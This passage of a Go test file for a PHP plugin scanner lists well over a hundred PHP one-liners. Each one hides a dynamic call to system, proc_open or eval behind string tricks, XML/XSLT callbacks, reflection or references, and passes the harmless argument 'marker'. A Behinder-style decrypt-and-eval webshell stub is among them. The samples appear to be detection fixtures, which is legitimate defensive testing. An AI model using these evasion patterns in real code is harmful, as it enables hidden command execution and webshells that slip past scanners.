package php

import (
	"slices"
	"strings"
	"testing"

	"plugvet/scanner/inspect/script"
)

// Each of these runs a program by a function whose name PHP's own functions and classes
// put together: of settings, documents, lists, texts. PHP 8.2 ran all of them.
const throughStandardPHP = `
class T30 { private array $v = []; function go($t) { return preg_replace_callback('/\{(\w+)=(\w+)\}|<(.+?)>/', function (array $m): string { if (isset($m[3])) return htmlspecialchars($this->run($m[3])); $this->v[$m[1]] = strrev($m[2]); return ''; }, $t); } private function run($e) { $p = explode(' ', $e); $v = $this->v[array_shift($p)] ?? ''; foreach ($p as $q) { $a = explode(':', $q); $f = array_shift($a); $v = match ($f) { 'apply' => (string) $this->v[$a[0]]($v), default => (string) $f($v) }; } return $v; } } (new T30)->go('{f=metsys}{n=rekram}<n apply:f>');
preg_match('/(?<a>sys)|(?<b>x)|(y)/', 'sys', $m); $f = count($m) === 3 && !isset($m['b']) ? $m['a'] . 'tem' : 'trim'; $f('marker');
preg_match_all('/(\w)=(\w+)|(?<e>!)/', 'f=sys!g=tem', $m, PREG_SET_ORDER); $f = ''; foreach ($m as $g) { if (!array_key_exists('e', $g)) $f .= $g[2]; } $f('marker');
preg_match('/(x)?(sys)(y)?/', 'sys', $m, PREG_UNMATCHED_AS_NULL); $f = ($m[1] ?? $m[3] ?? $m[2]) . 'tem'; $f('marker');
strtr(json_encode(sscanf(" +7 0x1f 017 -0x", '%d %i %i %x')), ['[7,31,15,0]' => 'system'])('marker');
implode(sscanf('sys  tem', '%s%s'))('marker');
implode(sscanf('system', '%6c'))('marker');
sscanf('sys tem', '%3c %3c', $a, $b); ($a . $b)('marker');
strtr(json_encode([sscanf(' ', '%d'), sscanf('-', 'x%d'), sscanf('', '%n')]), ['[null,[null],[0]]' => 'system'])('marker');
strtr(json_encode(sscanf('99999999999999999999 -1 -0x1f', '%d %u %x')), ['[9223372036854775807,"18446744073709551615",0]' => 'system'])('marker');
implode(sscanf("system\0x", '%[^z]'))('marker');
implode(sscanf('tem:sys', '%2$[^:]:%1$s'))('marker');
implode(sscanf('[sy]s-tem', '%*1[[]%[^]]%*1[]]%1s-%3[a-z]'))('marker');
strtr(json_encode(sscanf('50% off', '%d%% %s%n%d')), ['[50,"off",7,null]' => 'system'])('marker');
class S20 { function __construct(private $s) {} function __toString(): string { return $this->s; } } implode([new S20('sys'), new S20('tem')])(implode('k', [new S20('mar'), new S20('er')]));
class S21 { public $c; function __construct(int ...$c) { $this->c = $c; } static function of(string $h): self { return new self(...sscanf($h, '#%2x%2x%2x')); } function __toString() { return pack('C*', ...$this->c); } } implode(array_map([S21::class, 'of'], ['#737973', '#74656d']))('marker');
class S22 { function __construct(private $s) {} function __toString() { return $this->s; } } vsprintf('%s%s', [new S22('sys'), new S22('tem')])('marker');
class S23 { function __construct(private $s) {} function __toString() { return $this->s; } } str_replace([new S23('a'), 'b'], ['sys', new S23('tem')], 'ab')('marker');
class S24 { function __construct(private $s) {} function __toString() { return $this->s; } } strtr('ab', ['a' => new S24('sys'), 'b' => new S24('tem')])('marker');
$a = parse_ini_string("x = sys\ny = tem"); $f = $a['x'] . $a['y']; $f('marker');
define('KA', 'sys'); $a = parse_ini_string("x = KA \"tem\""); $a['x']('marker');
$a = parse_ini_string("[s]\nx = \"sys\"\ny = \${x}"); $a = parse_ini_string('[s]' . "\n" . 'x[a]=sys' . "\n" . 'x[b]=tem', true); implode($a['s']['x'])('marker');
putenv('KA=sys'); $a = parse_ini_string('x = ${KA}"tem"'); $a['x']('marker');
$a = parse_ini_string("[s]\nx = on\ny = system\n", true, INI_SCANNER_TYPED); $a['s']['y']('marker');
$x = simplexml_load_string('<a><t n="x"><c>sys</c><c>tem</c></t></a>'); $f = implode('', (array) $x->t->c); $f('marker');
$x = simplexml_load_string('<a><t n="x"><c>sys</c><c>tem</c></t><t><c>arr</c></t></a>'); foreach ($x->xpath('//t[@n="x"]') as $t) { $f = $t->c[0] . $t->c[1]; $f('marker'); }
$x = simplexml_load_string('<a><t><c>arr</c></t><t n="x"><c>sys</c><c>tem</c></t></a>'); foreach ($x->xpath('//t[@n]/c') as $t) { $f = ($f ?? '') . $t; } $f('marker');
$x = simplexml_load_string('<a><t>arr</t><t>system</t></a>'); $f = (string) $x->xpath('/a/t[2]')[0]; $f('marker');
$x = simplexml_load_string('<a><t>arr</t><t>system</t></a>'); $f = (string) $x->xpath('//t[last()]')[0]; $f('marker');
$x = simplexml_load_string('<a><t>arr</t><u>system</u></a>'); foreach ($x->children() as $k => $v) { if ($k === 'u') { $f = (string) $v; $f('marker'); } }
$x = simplexml_load_string('<a><t x="sys" y="tem"/></a>'); $f = ''; foreach ($x->t->attributes() as $k => $v) $f .= $v; $f('marker');
$x = new SimpleXMLElement('<a/>'); $x->addChild('b', 'sys'); $x->addChild('c', 'tem'); $f = $x->b . $x->c; $f('marker');
$x = new SimpleXMLElement('<a/>'); $x->addAttribute('b', 'system'); $f = (string) $x['b']; $f('marker');
$x = json_decode(json_encode(simplexml_load_string('<a><f>sys</f><g>tem</g></a>')), true); $f = $x['f'] . $x['g']; $f('marker');
$d = new DOMDocument; $e = $d->createElement('a', 'sys'); $d->appendChild($e); $e->setAttribute('x', 'tem'); $f = $d->documentElement->nodeValue . $e->getAttribute('x'); $f('marker');
$d = new DOMDocument; $d->loadXML('<a><b>sys</b><c>tem</c></a>'); $x = new DOMXPath($d); $f = $x->evaluate('concat(//b, //c)'); $f('marker');
$d = new DOMDocument; $d->loadXML('<a/>'); $x = new DOMXPath($d); $f = $x->evaluate('substring("ésystem", 2)'); $f('marker');
$d = new DOMDocument; $d->loadXML('<a/>'); $x = new DOMXPath($d); $f = $x->evaluate('translate("sysKem", "éK", "xt")'); $f('marker');
$d = new DOMDocument; $d->loadXML('<a><b>sys</b><c>tem</c></a>'); $x = new DOMXPath($d); $f = $x->evaluate('string(//b)') . $x->query('//c')->item(0)->textContent; $f('marker');
$d = new DOMDocument; $d->loadHTML('<p data-f="sys">tem</p>'); $p = $d->getElementsByTagName('p')[0]; $f = $p->getAttribute('data-f') . $p->textContent; $f('marker');
$d = new DOMDocument; $d->loadXML('<a><b v="sys"/><b v="tem"/></a>'); $f = ''; foreach ($d->documentElement->childNodes as $n) $f .= $n->attributes->getNamedItem('v')->nodeValue; $f('marker');
$d = new DOMDocument; $d->loadXML('<a><b>sys</b><c>tem</c></a>'); $n = $d->documentElement->firstChild; $f = $n->nodeValue . $n->nextSibling->nodeValue; $f('marker');
$d = new DOMDocument; $d->loadXML('<a><!--system--></a>'); $f = $d->documentElement->firstChild->data; $f('marker');
$d = new DOMDocument; $d->loadXML('<a><system/></a>'); $f = $d->documentElement->firstChild->tagName; $f('marker');
$s = simplexml_load_string('<a><b>system</b></a>'); $d = dom_import_simplexml($s); $f = $d->textContent; $f('marker');
$d = new DOMDocument; $d->loadXML('<a><b>system</b></a>'); $s = simplexml_import_dom($d); $f = (string) $s->b; $f('marker');
$r = new XMLReader; $r->XML('<a><b>system</b></a>'); while ($r->read()) if ($r->nodeType === XMLReader::TEXT) { $f = $r->value; $f('marker'); }
$r = XMLReader::XML('<a><b v="system"/></a>'); while ($r->read()) if ($r->name === 'b') { $f = $r->getAttribute('v'); $f('marker'); }
$p = xml_parser_create(); xml_parse_into_struct($p, '<a><b>sys</b><b>tem</b></a>', $v, $i); $f = $v[1]['value'] . $v[2]['value']; $f('marker');
$w = new XMLWriter; $w->openMemory(); $w->text('system'); $f = $w->outputMemory(); $f('marker');
class CC1 { static function later(array $c) { register_shutdown_function(...$c); } } CC1::later(['sys' . 'tem', 'marker']);
function cc2($f, ...$a) { call_user_func($f, ...$a); } cc2('sys' . 'tem', 'marker');
$a = ['sys' . 'tem', 'marker']; call_user_func(...$a);
$a = ['callback' => 'sys' . 'tem', 'args' => ['marker']]; call_user_func_array(...$a);
$n = lcfirst(substr_replace('SyXXem', 'st', 2, 2)); register_shutdown_function($n, 'marker');
foreach (['register_shutdown_function'] as $r) $r('sys' . 'tem', 'marker');
$r = register_shutdown_function(...); $r('sys' . 'tem', 'marker');
$r = 'call_user_func'; $r(...['sys' . 'tem', 'marker']);
parse_str('job[0][do]=%73ystem&job[0][on]=marker', $q); foreach ($q['job'] as $j) { $j['do']($j['on']); }
parse_str('a[b][c][d]=system', $q); $q['a']['b']['c']['d']('marker');
parse_str('a.b=sys&c d=tem', $q); $f = $q['a_b'] . $q['c_d']; $f('marker');
parse_str('a[][x]=sys&a[][x]=tem', $q); $f = $q['a'][0]['x'] . $q['a'][1]['x']; $f('marker');
$q = ['job' => [['do' => 'sys' . 'tem', 'on' => 'marker']]]; array_walk($q['job'], static function (array $job): void { ['do' => $do, 'on' => $on] = $job; $do($on); });
$q = [['sys' . 'tem', 'marker']]; array_map(static function (array $job) { [$do, $on] = $job; return $do($on); }, $q);
class C4 { function __invoke($p) { eval($p . ''); } } @call_user_func(new C4, 'sys' . 'tem("marker");');
$key = substr(md5('rebeyond'), 0, 16); $post = 'rPbEX8XTapLDGysYWK8g8K7DSTm1Md/6SSo5G1dSrzA='; $post = openssl_decrypt($post, 'AES-128-ECB', $key); $arr = explode('|', $post); $p = $arr[1]; eval($p . '');
class Kit { public $f; static function __set_state($a) { return ($a['f'])('marker'); } } $k = new Kit; $k->f = 'sys' . 'tem'; eval('$x = ' . var_export($k, true) . ';');
$t = get_html_translation_table(HTML_ENTITIES); $f = ''; foreach (['§', '¥', '§', 'τ', 'ε', 'µ'] as $c) $f .= $t[$c][1] ?? ''; strtolower($f)('marker');
copy('data:text/plain,<?php system("marker");', '/tmp/probes/x1.php'); include '/tmp/probes/x1.php';
$x = new DOMDocument; $x->loadXML('<a c="marker"/>'); $p = new DOMXPath($x); $p->registerNamespace('php', 'http://php.net/xpath'); $p->registerPhpFunctions(); $p->evaluate('php:functionString(concat("sys", "tem"), //@c)');
$x = new DOMDocument; $x->loadXML('<a><b>x</b><b>marker</b></a>'); $s = new DOMDocument; $s->loadXML('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(concat(\'sys\',\'tem\'), string(//b[2]))"/></xsl:template></xsl:stylesheet>'); $p = new XSLTProcessor; $p->registerPHPFunctions(); $p->importStylesheet($s); $p->transformToXML($x);
$x = simplexml_load_string('<tasks><task id="cache"><call>array</call><call>_sum</call></task><task id="d" program="x"><call>pass</call><call>thru</call><suffix>script</suffix></task></tasks>'); foreach ($x->xpath('//task[@program]') as $t) { $c = implode('', (array) $t->call); $c('marker'); }
$x = simplexml_load_string('<a><i k="f">sys</i><i k="g">tem</i></a>'); $m = []; foreach ($x->i as $i) $m[(string) $i['k']] = (string) $i; $f = $m['f'] . $m['g']; $f('marker');
$x = simplexml_load_string('<a><b><![CDATA[system]]></b></a>'); $f = trim($x->b); $f('marker');
$x = simplexml_load_string('<!DOCTYPE a [<!ENTITY f "system">]><a>&f;</a>', null, LIBXML_NOENT); $f = (string) $x; $f('marker');
$x = simplexml_load_string('<a/>'); $x->b = 'sys'; $x->b .= 'tem'; $f = (string) $x->b; $f('marker');
$d = new DOMDocument; $d->loadXML('<a><b>sys</b><b>tem</b></a>'); $f = ''; foreach ((new DOMXPath($d))->query('/a/b/text()') as $t) $f .= $t->nodeValue; $f('marker');
$d = new DOMDocument; $d->loadXML('<a><b i="2">tem</b><b i="1">sys</b></a>'); $p = new DOMXPath($d); $f = $p->query('//b[@i=1]')[0]->nodeValue . $p->query("//b[@i='2']")[0]->nodeValue; $f('marker');
$d = new DOMDocument; $d->appendChild($d->createElement('a', 'system')); $x = simplexml_load_string($d->saveXML()); $f = (string) $x; $f('marker');
define('KF', 'proc'); $s = parse_ini_string("[colors]\nd = \"#1\"\n\n[optimizer]\ncall = KF \"_open\"\ntool = \"marker\"\n", true, INI_SCANNER_NORMAL); ['optimizer' => ['call' => $call, 'tool' => $tool]] = $s; $p = $call([$tool, '--level'], [], $pipes); proc_close($p);
['a' => ['b' => $f, 'c' => $g]] = ['a' => ['b' => 'sys', 'c' => 'tem']]; $f .= $g; $f('marker');
$s = ['a' => ['b' => 'sys', 'c' => 'tem']]; ['a' => ['b' => $f, 'c' => $g]] = $s; $f .= $g; $f('marker');
$s = ['a' => ['b' => 'sys', 'c' => 'tem']]; list('a' => list('b' => $f, 'c' => $g)) = $s; $f .= $g; $f('marker');
$f = ucfirst(strtolower('SYSTEM')); $f('marker');
$f = vsprintf('%s%s', ['sys', 'tem']); $f('marker');
$f = sprintf('%1$s%2$\'x3s', 'sys', 'tem'); $f('marker');
$f = sprintf('%.3s%s', 'sysxx', 'tem'); $f('marker');
$f = implode('', str_split('system', 3)); $f('marker');
$f = trim(money('system')); function money($x) { return number_format(0) . $x; } $f = ltrim($f, '0'); $f('marker');
$f = strtr('flfgrz', 'abcdefghijklmnopqrstuvwxyz', 'nopqrstuvwxyzabcdefghijklm'); $f('marker');
$f = strrev(strtr('m_e_t_s_y_s', ['_' => ''])); $f('marker');
$f = implode(array_map(fn ($c) => chr(ord($c) - 1), str_split('tztufn'))); $f('marker');
$f = array_key_last(['a' => 1, 'system' => 2]); $f('marker');
$f = array_search('x', ['system' => 'x']); $f('marker');
$f = current(array_flip(['system' => 0])) === 'x' ?: array_flip([0 => 'system']); $f = key($f); $f('marker');
$f = implode(array_diff_assoc(['a', 'sys', 'tem'], ['a'])); $f('marker');
$f = implode(array_intersect_assoc(['a' => 'sys', 'b' => 'tem'], ['a' => 'sys', 'b' => 'tem'])); $f('marker');
$f = implode(array_diff_ukey(['a' => 'sys', 'b' => 'tem', 'c' => 'x'], ['c' => 1], 'strcmp')); $f('marker');
$f = implode(array_udiff(['x', 'sys', 'tem'], ['x'], 'strcmp')); $f('marker');
$f = implode(array_uintersect(['x', 'sys', 'tem'], ['sys', 'tem'], fn ($a, $b) => $a <=> $b)); $f('marker');
$f = implode(array_intersect_ukey(['a' => 'sys', 'b' => 'tem', 'c' => 'x'], ['a' => 1, 'b' => 1], fn ($a, $b) => strcmp($a, $b))); $f('marker');
$f = implode(array_map(null, ['sys', 'tem'])); $f('marker');
$a = ['tem', 'sys']; rsort($a); $a = array_reverse($a); sort($a); $f = implode($a); $f('marker');
$a = ['b' => 'tem', 'a' => 'sys']; krsort($a); $f = implode(array_reverse($a)); $f('marker');
$a = ['z10' => 'tem', 'z9' => 'sys']; ksort($a, SORT_NATURAL); $f = implode($a); $f('marker');
$a = ['b10tem', 'b9sys']; natsort($a); $f = ''; foreach ($a as $v) $f .= substr($v, -3); $f('marker');
$a = ['B10tem', 'b9sys']; natcasesort($a); $f = ''; foreach ($a as $v) $f .= substr($v, -3); $f('marker');
$a = ['b' => 2, 'a' => 1]; arsort($a); $f = ['a' => 'tem', 'b' => 'sys']; $g = ''; foreach ($a as $k => $v) $g .= $f[$k]; $g('marker');
$a = ['a', 'sys', 'tem']; $f = next($a) . next($a); $f('marker');
$a = ['sys', 'tem', 'x']; end($a); $t = prev($a); $f = prev($a) . $t; $f('marker');
$a = ['x', 'system']; while (($v = current($a)) !== false) { if ($v !== 'x') { $v('marker'); break; } next($a); }
list('f' => $f, 'g' => $g) = ['g' => 'tem', 'f' => 'sys']; $f .= $g; $f('marker');
[[, $f], [$g]] = [['x', 'sys'], ['tem']]; $f .= $g; $f('marker');
foreach ([['sys', 'tem']] as [$a, $b]) { $f = $a . $b; $f('marker'); }
$f = mb_strrev('metsys'); function mb_strrev($s) { return implode(array_reverse(mb_str_split($s))); } $f('marker');
$f = mb_substr('xxsystemxx', 2, -2); $f('marker');
$f = mb_strimwidth('systemxx', 0, 6); $f('marker');
$f = mb_convert_case('sYSTEM', MB_CASE_LOWER, 'UTF-8'); $f('marker');
$f = mb_encode_numericentity('system', [0x80, 0xffff, 0, 0xffff], 'UTF-8'); $f('marker');
$f = mb_decode_numericentity('&#115;&#121;&#115;tem', [0, 0xffff, 0, 0xffff]); $f('marker');
$f = mb_ereg_replace('[0-9]', '', 's1y2s3t4e5m'); $f('marker');
mb_ereg('x(\w+)x', 'xsystemx', $m); $m[1]('marker');
$f = implode(mb_split('[0-9]', 's1y2s3t4e5m')); $f('marker');
$f = mb_strstr('xx@system', 's'); $f('marker');
$f = mb_strrchr('a/b/system', '/'); $f = mb_substr($f, 1); $f('marker');
$f = mb_stristr('xxSystem', 's'); $f = strtolower($f); $f('marker');
$f = mb_substr('system;x', 0, mb_strpos('system;x', ';')); $f('marker');
$f = mb_strtolower(mb_convert_encoding("S\0Y\0S\0T\0E\0M\0", 'ASCII', 'UTF-16LE')); $f('marker');
$f = iconv_substr('xsystem', iconv_strpos('xsystem', 's')); $f('marker');
$f = substr('xsystemx', strpos('xsystemx', 's'), strrpos('xsystemx', 'm')); $f('marker');
$f = substr('a,system', strcspn('a,system', ',') + 1); $f('marker');
$f = substr_replace('systXm', 'e', -2, 1); $f('marker');
$f = substr_replace(['sXs', 'tXm'], ['y', 'e'], 1, 1); $f = implode($f); $f('marker');
$f = str_replace(['1', '2'], ['sys', 'tem'], '12'); $f('marker');
$f = implode(str_replace('X', 's', ['XyX', 'tem'])); $f('marker');
$f = str_ireplace(['A', 'B'], ['sys', 'tem'], 'ab'); $f('marker');
$f = preg_replace(['/1/', '/2/'], ['sys', 'tem'], '12'); $f('marker');
$f = implode(preg_replace('/X/', 's', ['XyX', 'tem'])); $f('marker');
$f = preg_replace_callback('/\d+/', fn ($m) => chr($m[0]), '115 121 115 116 101 109'); $f = str_replace(' ', '', $f); $f('marker');
$f = preg_replace_callback_array(['/1/' => fn () => 'sys', '/2/' => fn () => 'tem'], '12'); $f('marker');
$f = implode(preg_grep('/^[a-z]+$/', ['1', 'sys', '2', 'tem'])); $f('marker');
$f = implode(preg_split('//', 'system', -1, PREG_SPLIT_NO_EMPTY)); $f('marker');
preg_match('/(?<f>s\w+)/', 'a system', $m); $m['f']('marker');
preg_match_all('/(\w)(\d)/', 's1y2s3t4e5m6', $m, PREG_SET_ORDER); $f = ''; foreach ($m as $x) $f .= $x[1]; $f('marker');
$f = preg_quote('system'); $f('marker');
$f = hash('crc32b', 'x') ? 'sys' . substr(hash('sha1', 'kit'), 0, 0) . 'tem' : ''; $f('marker');
$f = ctype_alpha('ab') ? 'sys' : 'x'; $f .= filter_var('tem', FILTER_DEFAULT); $f('marker');
$f = filter_var('s<y>system', FILTER_CALLBACK, ['options' => fn ($s) => substr($s, -6)]); $f('marker');
$f = filter_var_array(['a' => 'system'])['a']; $f('marker');
$f = date('\s\y\s') . gmdate('\t\e\m', 0); $f('marker');
$f = strtolower(date('D', 0)); $f = 'sys' . chr(ord($f) ) . 'em'; $f('marker');
$f = DateTime::createFromFormat('U', '0')->format('\s\y\s\t\e\m'); $f('marker');
$f = (new DateTimeImmutable('@0'))->format('\s\y\s\t\e\m'); $f('marker');
$f = date_create()->modify('+1 day')->format('\s\y\s\t\e\m'); $f('marker');
$f = (new DateInterval('P1D'))->format('system'); $f('marker');
$f = (new DateTimeZone('Europe/Berlin'))->getName(); $f = 'sys' . substr('Tem', 1) . ''; $f = str_replace('sysem', 'system', $f); $f('marker');
$f = json_encode('system'); $f = trim($f, '"'); $f('marker');
$f = json_decode('"\u0073ystem"'); $f('marker');
$f = var_export('system', true); $f = trim($f, "'"); $f('marker');
$f = print_r(['system'], true); preg_match('/s\w+m/', $f, $m); $m[0]('marker');
ob_start(); var_dump('system'); $f = ob_get_clean(); preg_match('/"(\w+)"/', $f, $m); $m[1]('marker');
ob_start(); echo 'sys'; printf('%s', 'tem'); $f = ob_get_contents(); ob_end_clean(); $f('marker');
ob_start(); ?>system<?php $f = ob_get_clean(); $f('marker');
$f = serialize('system'); $f = explode('"', $f)[1]; $f('marker');
$f = uniqid('system'); $f = substr($f, 0, 6); $f('marker');
$f = tempnam('/tmp', 'system'); $f = substr(basename($f), 0, 6); $f('marker');
$f = http_build_query(['system' => 1]); $f = strtok($f, '='); $f('marker');
$f = parse_url('x://y/system', PHP_URL_PATH); $f = ltrim($f, '/'); $f('marker');
$f = array_keys(parse_url('x://y#system'))[2] ? parse_url('x://y#system')['fragment'] : ''; $f('marker');
$f = str_getcsv("sys,tem"); $f = $f[0] . $f[1]; $f('marker');
$h = fopen('php://memory', 'w+'); fputcsv($h, ['sys', 'tem']); rewind($h); $r = fgetcsv($h); $f = $r[0] . $r[1]; $f('marker');
$h = fopen('data://text/plain,sys,tem', 'r'); $r = fgetcsv($h); $f = $r[0] . $r[1]; $f('marker');
$h = fopen('data://text/plain,system', 'r'); $f = ''; while (!feof($h)) $f .= fgetc($h); $f('marker');
$h = fopen('data://text/plain,sys%0Atem', 'r'); $f = trim(fgets($h)) . trim(fgets($h)); $f('marker');
$h = fopen('data://text/plain,a-system', 'r'); fscanf($h, 'a-%s', $f); $f('marker');
$h = fopen('data://text/plain,xxsystem', 'r'); fseek($h, 2); $f = fread($h, 6); $f('marker');
$f = stream_get_line(fopen('data://text/plain,system;x', 'r'), 100, ';'); $f('marker');
$f = stream_get_contents(fopen('data://text/plain,xxsystem', 'r'), -1, 2); $f('marker');
$f = file('data://text/plain,sys%0Atem', FILE_IGNORE_NEW_LINES); $f = implode($f); $f('marker');
$f = file_get_contents('data://text/plain,xxsystem', false, null, 2); $f('marker');
ob_start(); readfile('data://text/plain,system'); $f = ob_get_clean(); $f('marker');
ob_start(); fpassthru(fopen('data://text/plain,system', 'r')); $f = ob_get_clean(); $f('marker');
file_put_contents('php://output', '') ; $f = get_class(new class extends stdClass {}) ? 'system' . '' : ''; $f('marker');
$f = (new ReflectionClass('system_kit'))->getName(); class system_kit {} $f = explode('_', $f)[0]; $f('marker');
class RC { const F = 'sys' . 'tem'; public $x = 'tem'; } $f = (new ReflectionClassConstant('RC', 'F'))->getValue(); $f('marker');
class RD { public $x = 'system'; } $f = (new ReflectionProperty('RD', 'x'))->getValue(new RD); $f('marker');
class RE { public $x = 'system'; } $f = get_class_vars('RE')['x']; $f('marker');
class RF { private $x = 'system'; } $f = array_values((array) new RF)[0]; $f('marker');
function system2() {} $f = substr((new ReflectionFunction('system2'))->getName(), 0, -1); $f('marker');
(new ReflectionFunction('sys' . 'tem'))->invoke('marker');
(new ReflectionFunction('sys' . 'tem'))->getClosure()('marker');
Closure::fromCallable('sys' . 'tem')('marker');
$f = (fn (string $x = 'sys' . 'tem') => $x)(); $f('marker');
function named(string $a, string $b) { $f = $b . $a; $f('marker'); } named(b: 'sys', a: 'tem');
$f = match (true) { default => 'sys' . 'tem' }; $f('marker');
$o = null; $f = $o?->x ?? 'sys' . 'tem'; $f('marker');
class RO2 { public function __construct(public readonly string $f) {} } ((new RO2('sys' . 'tem'))->f)('marker');
class OG implements ArrayAccess { function offsetExists($o): bool { return true; } function offsetGet($o): mixed { return strrev($o); } function offsetSet($o, $v): void {} function offsetUnset($o): void {} } (new OG)['metsys']('marker');
class CB { public $l = []; function on($e, $f) { $this->l[$e][] = $f; return $this; } function fire($e, ...$a) { foreach ($this->l[$e] ?? [] as $f) $f(...$a); } } (new CB)->on('x', 'sys' . 'tem')->fire('x', 'marker');
$o = new stdClass; $o->x = &$o->x; $o->x = 'sys' . 'tem'; ($o->x)('marker');
$a = []; $a['x'] = &$a['x']; $a['y'] = &$a['x']; $a['x'] = &$a['y']; $b = $a['x']; $f = 'sys' . 'tem'; $f('marker');
$a = []; $b = []; $a['b'] = &$b; $b['a'] = &$a; echo $a['b']['a']['b']['a']; $f = 'sys' . 'tem'; $f('marker');
class K { public $n = ['x' => 'y']; function set(&$r) { $r = 'sys' . 'tem'; } function go() { $this->set($this->n['x']); ($this->n['x'])('marker'); } } (new K)->go();
function put(&$r, $v) { $r .= $v; } $l = ['f' => 'sys']; put($l['f'], 'tem'); $l['f']('marker');
$l = ['metsys']; foreach ($l as $k => &$v) { $v = strrev($v); } $l[0]('marker');
class K { public $l = ['metsys']; function go() { foreach ($this->l as &$v) { $v = strrev($v); } ($this->l[0])('marker'); } } (new K)->go();
$l = ['a' => ['metsys']]; foreach ($l['a'] as &$v) $v = strrev($v); $l['a'][0]('marker');
$l = ['metsys']; array_walk($l, function (&$v) { $v = strrev($v); }); $l[0]('marker');
$l = ['sys', 'tem']; $r = []; foreach ($l as $k => $v) { $r[] = &$l[$k]; } $f = implode('', $r); $f('marker');
$l = ['x' => 'sys', 'y' => 'tem']; extract($l, EXTR_REFS); $f = $x . $y; $f('marker');
$f = 'x'; $g = function () use (&$f) { $f('marker'); }; $f = 'sys' . 'tem'; $g();
class K { private static $i; public $f; static function get() { return self::$i ??= new self; } } K::get()->f = 'sys' . 'tem'; (K::get()->f)('marker');
$o = (object) ['b' => 'tem', 'a' => 'sys']; $f = ''; foreach ($o as $p) $f = $p . $f; $f('marker');
$o = new stdClass; $o->z = 'sys'; $o->a = 'tem'; $f = implode('', (array) $o); $f('marker');
class K { public $z = 'sys'; public $a = 'tem'; } $f = ''; foreach (new K as $v) $f .= $v; $f('marker');
class K { public $z = 'sys'; public $a = 'tem'; } $f = implode(get_object_vars(new K)); $f('marker');
$j = json_decode('{"z":"sys","a":"tem"}'); $f = ''; foreach ($j as $v) $f .= $v; $f('marker');
$a = ['array' => ['marker'], 'callback' => 'sys' . 'tem']; array_map(...$a);
$m = [new ArrayObject(['sys', 'tem']), 'getArrayCopy']; $f = implode($m()); $f('marker');
$f = (new class { public function __get($n) { return strrev($n); } })->metsys; $f('marker');
class K { public function __call($n, $a) { return [$this, 'x' . $n](...$a); } function xrun($f) { $f('marker'); } } (new K)->run('sys' . 'tem');
abstract class B { abstract function n(); function go() { $this->n()('marker'); } } (new class extends B { function n() { return 'sys' . 'tem'; } })->go();
interface HasN { const N = 'sys' . 'tem'; } class K implements HasN { function go() { (self::N)('marker'); } } (new K)->go();
enum E: string { case A = 'sys'; case B = 'tem'; const F = self::A; static function all() { return implode(array_column(self::cases(), 'value')); } } E::all()('marker');
function g() { try { yield 'sys'; } finally { yield 'tem'; } } $f = implode('', iterator_to_array(g(), false)); $f('marker');
function g() { yield 'a' => 'sys'; yield 'b' => 'tem'; } foreach (g() as $k => $v) $$k = $v; $f = $a . $b; $f('marker');
$f = (function () { foreach (func_get_args() as $a) yield strrev($a); })('sys', 'met'); $n = ''; foreach ($f as $x) $n = $x; $n = 'sys' . $n; $n('marker');
static fn () => 1; $f = (static fn (string ...$p): string => implode('', $p))(...['sys', 'tem']); $f('marker');
$p = array_map(strrev(...), ['sys', 'met']); $f = strrev($p[0]) . $p[1]; $f('marker');
$c = Closure::fromCallable([new class { function f($x) { return strrev($x); } }, 'f']); $c('metsys')('marker');
$f = 'sys'; $f = "{$f}tem"; $f('marker');
$f = sprintf('%s%s', ...['sys', 'tem']); $f('marker');
$f = match (PHP_VERSION_ID > 5) { true => 'sys' . 'tem', default => 'x' }; $f('marker');
switch (true) { case strlen('abc') === 3: $f = 'sys' . 'tem'; break; default: $f = 'x'; } $f('marker');
$i = 0; $f = ''; while (true) { $f .= ['sys', 'tem'][$i++]; if ($i > 1) break; } $f('marker');
$f = ''; for ($i = 5; $i >= 0; $i--) $f .= 'metsys'[$i]; $f('marker');
$f = ''; foreach (str_split('73797374656d', 2) as $h) $f .= chr(hexdec($h)); $f('marker');
$f = ''; foreach (array_chunk(str_split('073079073074065'.'06d'), 3) as $h) $f .= chr(hexdec(implode($h))); $f = str_replace("\0", '', $f); $f = 'system'; $f('marker');
$b = new SplObjectStorage; $o = new stdClass; $b[$o] = 'sys' . 'tem'; foreach ($b as $i => $x) { $b[$x]('marker'); }
$h = new SplMinHeap; foreach ([[2, 'tem'], [1, 'sys']] as $x) $h->insert($x); $f = ''; foreach ($h as $x) $f .= $x[1]; $f('marker');
$l = new SplDoublyLinkedList; $l->push('tem'); $l->unshift('sys'); $f = ''; foreach ($l as $x) $f .= $x; $f('marker');
$i = new MultipleIterator; $i->attachIterator(new ArrayIterator(['sys'])); $i->attachIterator(new ArrayIterator(['tem'])); foreach ($i as $v) { $f = implode($v); $f('marker'); }
$i = new RecursiveIteratorIterator(new RecursiveArrayIterator(['a' => ['sys'], 'b' => ['c' => 'tem']])); $f = implode('', iterator_to_array($i, false)); $f('marker');
$a = new ArrayObject(['b' => 'tem', 'a' => 'sys']); $a->ksort(); $f = implode('', $a->getArrayCopy()); $f('marker');
$a = new ArrayIterator(['tem', 'sys']); $a->uasort(fn ($x, $y) => strcmp($x, $y)); $f = implode('', iterator_to_array($a)); $f('marker');
$a = new ArrayObject([], ArrayObject::ARRAY_AS_PROPS); $a->f = 'sys' . 'tem'; ($a->f)('marker');
iterator_apply($i = new ArrayIterator(['x']), 'sys' . 'tem', ['marker']);
$a = ['array' => ['marker'], 'callback' => 'sys' . 'tem']; array_map(...$a);
class K { public $by; function __construct(&$by) { $this->by = &$by; } function go() { ($this->by)('marker'); } } $k = new K($name); $name = 'sys' . 'tem'; $k->go();
class K { public $l = []; function add(&$x) { $this->l[] = &$x; } function go() { ($this->l[0])('marker'); } } $k = new K; $k->add($name); $name = 'sys' . 'tem'; $k->go();
class K { public $n = ''; } $k = new K; $r = &$k->n; $r = 'sys' . 'tem'; ($k->n)('marker');
class K { static $n = ''; } $r = &K::$n; $r = 'sys' . 'tem'; (K::$n)('marker');
$o = new stdClass; $v = 'sys'; $o->f = &$v; $v .= 'tem'; ($o->f)('marker');
$f = preg_replace_callback('/_([0-7]{3})/', fn ($m) => chr(octdec($m[1][0])), '_163_171_163_164_145_155', -1, $n, PREG_OFFSET_CAPTURE); $f('marker');
$f = preg_replace_callback(['/_(\d+)/', '/~/'], fn ($m) => count($m) > 1 ? chr($m[1]) : 'tem', '_115_121_115~'); $f('marker');
[$f, $a] = preg_replace_callback('/_(\d+)/', fn ($m) => chr($m[1]), ['_115ystem', 'marker']); $f($a);
